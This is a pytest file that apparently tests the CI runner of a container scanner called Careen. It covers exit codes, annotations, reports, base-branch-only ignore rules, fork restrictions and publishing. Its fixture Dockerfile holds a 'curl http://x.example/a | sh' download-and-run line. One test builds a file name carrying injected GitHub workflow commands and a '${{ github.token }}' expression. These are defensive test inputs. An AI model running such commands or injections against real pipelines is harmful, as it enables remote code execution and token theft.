"""The steps of a pipeline as a runner starts them: exit codes, files of the runner, requests to the service."""

import json
import subprocess

import pytest
from tests.support import forges
from tests.support.command import Shell
from tests.support.servers import Server
from tests.unit.ci.test_runner_files import read_back

DOCKERFILE = "FROM debian:latest\nRUN curl http://x.example/a | sh\n"
RULES = "ignore:\n  - path: Dockerfile\n    reason: everything is fine\n    until: 2099-01-01\n"


@pytest.fixture
def runner(tmp_path):
    """A checkout with a Dockerfile on a pull request's branch, and a shell with the variables of GitHub."""
    home = tmp_path / "work"
    home.mkdir()
    git(home, "init", "-q", "-b", "main")
    (home / "Dockerfile").write_text(DOCKERFILE)
    commit(home)
    base = git(home, "rev-parse", "HEAD")
    git(home, "checkout", "-q", "-b", "change")
    event = tmp_path / "event.json"
    sides = {"head": {"ref": "x", "sha": "d" * 40, "repo": {"full_name": "owner/shop"}}, "base": {"ref": "main", "sha": base}}
    event.write_text(json.dumps({"pull_request": {"number": 7, **sides}}))
    shell = Shell(
        home,
        GITHUB_ACTIONS="true",
        GITHUB_EVENT_NAME="pull_request",
        GITHUB_EVENT_PATH=str(event),
        GITHUB_REPOSITORY="owner/shop",
        GITHUB_SHA="c" * 40,
        GITHUB_REF="refs/pull/7/merge",
        GITHUB_OUTPUT=str(tmp_path / "output"),
        GITHUB_STEP_SUMMARY=str(tmp_path / "summary"),
        CAREEN_CACHE_DIR=str(tmp_path / "cache"),
        CAREEN_OFFLINE="true",
    )
    shell.place = tmp_path
    return shell


def git(folder, *arguments):
    known = ["-c", "user.name=x", "-c", "user.email=x@example.com", "-c", "commit.gpgsign=false"]
    done = subprocess.run(["git", "-C", str(folder), *known, *arguments], check=True, capture_output=True, text=True)
    return done.stdout.strip()


def commit(folder):
    git(folder, "add", "-A")
    git(folder, "commit", "-qm", "x")


def check(runner, *flags, before=()):
    return runner.run("ci", "run", *before, "--", "check", "Dockerfile", "--scanners", "config", *flags)


def test_a_check_writes_annotations_reports_outputs_and_a_summary(runner):
    done = check(runner, "--fail-on", "medium")
    assert done.returncode == 1
    assert "::error " in done.stdout or "::warning " in done.stdout
    assert "file=Dockerfile,line=2" in done.stdout
    names = {path.name for path in (runner.home / "careen-reports").iterdir()}
    assert names == {"careen.json", "careen.sarif", "careen.md", "careen.junit.xml"}
    found = read_back((runner.place / "output").read_text())
    report = json.loads((runner.home / "careen-reports" / "careen.json").read_bytes())
    assert (found["exit-code"], found["findings"], found["reports"]) == ("1", str(len(report["findings"])), "careen-reports")
    assert (runner.place / "summary").read_text().startswith("## Careen: `Dockerfile`")


def test_a_pass_is_zero_and_a_missing_file_is_three(runner):
    assert check(runner).returncode == 0
    assert runner.run("ci", "run", "--", "check", "missing").returncode == 3


def test_a_request_cannot_suppress_its_own_findings(runner):
    (runner.home / "ignore.yaml").write_text(RULES)
    commit(runner.home)
    flags = ("--fail-on", "medium", "--ignore-file", "ignore.yaml")
    weak = check(runner, *flags)
    assert weak.returncode == 0
    assert "the request can change ignore.yaml" in weak.stderr
    runner.environment["CAREEN_IGNORE_FILE"] = "ignore.yaml"
    assert runner.run("ci", "rules", "--to", "base").returncode == 0
    strict = check(runner, *flags, before=("--rules", "base"))
    assert strict.returncode == 1
    assert "ignore.yaml is not in the base branch, so it suppresses nothing" in strict.stderr


def test_rules_of_the_base_apply(runner):
    git(runner.home, "checkout", "-q", "main")
    (runner.home / "ignore.yaml").write_text(RULES)
    commit(runner.home)
    event = json.loads((runner.place / "event.json").read_text())
    event["pull_request"]["base"]["sha"] = git(runner.home, "rev-parse", "HEAD")
    (runner.place / "event.json").write_text(json.dumps(event))
    git(runner.home, "checkout", "-q", "change")
    assert runner.run("ci", "rules", "--to", "base", "ignore.yaml").stderr == "rules: ignore.yaml of the base branch\n"
    flags = ("--fail-on", "medium", "--ignore-file", "ignore.yaml")
    assert check(runner, *flags, before=("--rules", "base")).returncode == 0


def test_a_policy_that_only_the_request_has_is_refused(runner):
    (runner.home / "policy.rego").write_text("package x\n")
    runner.run("ci", "rules", "--to", "base", "policy.rego")
    done = check(runner, "--policy", "policy.rego", before=("--rules", "base"))
    assert (done.returncode, "policy.rego is not in the base branch" in done.stderr) == (2, True)


def test_a_baseline_of_the_request_is_no_baseline(runner):
    assert check(runner).returncode == 0
    (runner.home / "known.json").write_bytes((runner.home / "careen-reports" / "careen.json").read_bytes())
    runner.environment["CAREEN_BASELINE"] = "known.json"
    assert runner.run("ci", "rules", "--to", "base").returncode == 0
    words = ("ci", "run", "--rules", "base", "--", "scan", "directory:.", "--fail-on", "low")
    done = runner.run(*words)
    assert (done.returncode, "known.json is not in the base branch" in done.stderr) == (2, True)


def test_reports_of_the_repository_itself_are_not_published(runner):
    folder = runner.home / "careen-reports"
    folder.mkdir()
    (folder / "careen.md").write_text("@everyone")
    assert runner.run("ci", "run", "--", "check", "missing").returncode == 3
    assert not list(folder.iterdir())


def test_code_of_a_fork_with_rights_is_refused(runner):
    runner.environment["GITHUB_EVENT_NAME"] = "pull_request_target"
    done = check(runner)
    assert (done.returncode, "pull_request_target" in done.stderr) == (2, True)


def test_names_cannot_command_the_runner(runner):
    name = "a::error title=x::b/Dockerfile"
    (runner.home / name).parent.mkdir()
    (runner.home / name).write_text(DOCKERFILE.replace("debian", "`](x)<b>::error::${{ github.token }}"))
    done = runner.run("ci", "run", "--", "check", name, "--scanners", "config", "--fail-on", "low")
    for line in f"{done.stdout}{done.stderr}".splitlines():
        assert line.count("::") <= 2 or line.startswith(("::error ", "::warning ", "::notice ")), line
        if line.startswith("::"):
            assert "::error" not in line[2:].partition("::")[0]
    text = (runner.place / "summary").read_text()
    outside = "".join(part for line in text.splitlines() for part in line.split("`")[::2])
    assert "<b>" not in outside and "${{" not in outside
    assert read_back((runner.place / "output").read_text()).keys() <= {
        "exit-code", "reports", "findings", "critical", "high", "medium", "low", "negligible", "unknown",
    }  # fmt: skip


@pytest.fixture
def service(runner):
    memory = forges.Memory()
    memory.add("main", "", "begin", {"Dockerfile": DOCKERFILE.encode()})
    with Server(forges.github(memory)) as server:
        runner.environment |= {"GITHUB_API_URL": server.url, "CAREEN_CI_TOKEN": forges.TOKEN}
        yield memory


def test_a_report_is_published_once(runner, service):
    check(runner)
    for _ in range(2):
        done = runner.run("ci", "publish", "--comment", "--code-scanning")
        assert done.returncode == 0, done.stderr
    ((_, body),) = service.comments.values()
    assert "## Careen: `Dockerfile`" in body
    assert len(service.scans) == 2
    assert forges.TOKEN not in f"{done.stdout}{done.stderr}"


def test_a_fork_has_no_rights_to_publish(runner, service):
    check(runner)
    event = json.loads((runner.place / "event.json").read_text())
    event["pull_request"]["head"]["repo"]["full_name"] = "mallory/shop"
    (runner.place / "event.json").write_text(json.dumps(event))
    done = runner.run("ci", "publish", "--comment", "--code-scanning")
    assert (done.returncode, "comes from a fork" in done.stderr) == (0, True)
    assert not service.comments and not service.scans


def test_a_token_without_rights_is_an_error(runner, service):
    check(runner)
    service.denied.add(("POST", "/issues/7/comments"))
    done = runner.run("ci", "publish", "--comment")
    assert (done.returncode, "HTTP 403" in done.stderr) == (3, True)


def test_a_fix_is_proposed_from_the_branch_alone(runner, service):
    plan = {
        "schema": "careen.plan/1",
        "reference": "shop:1",
        "before": 2,
        "after": 1,
        "after_dockerfile": 1,
        "actions": [],
        "stays": [],
        "diff": "--- a/Dockerfile\n+++ b/Dockerfile\n@@ -1 +1,2 @@\n FROM debian:latest\n+RUN apt-get upgrade\n",
    }
    (runner.home / "plan.json").write_text(json.dumps(plan))
    words = ("ci", "propose", "--plan", "plan.json", "--dockerfile", "Dockerfile")
    assert runner.run(*words).returncode == 2
    runner.environment |= {"GITHUB_EVENT_PATH": "", "GITHUB_EVENT_NAME": "schedule", "GITHUB_REF": "refs/heads/main"}
    done = runner.run(*words)
    assert (done.returncode, done.stderr) == (0, "a request is open: https://forge.example/1\n")
    assert read_back((runner.place / "output").read_text()) == {"fix": "opened", "fix-url": "https://forge.example/1"}
    assert "up to date" in runner.run(*words).stderr
    assert len(service.requests) == 1


@pytest.mark.parametrize(
    "words",
    [
        ("run",),
        ("run", "--", "db", "update"),
        ("publish", "--", "scan"),
        ("rules",),
        ("propose",),
        ("publish", "--comment"),
        ("run", "x", "--", "scan", "y"),
    ],
)
def test_wrong_words(runner, words):
    assert runner.run("ci", *words).returncode == 2
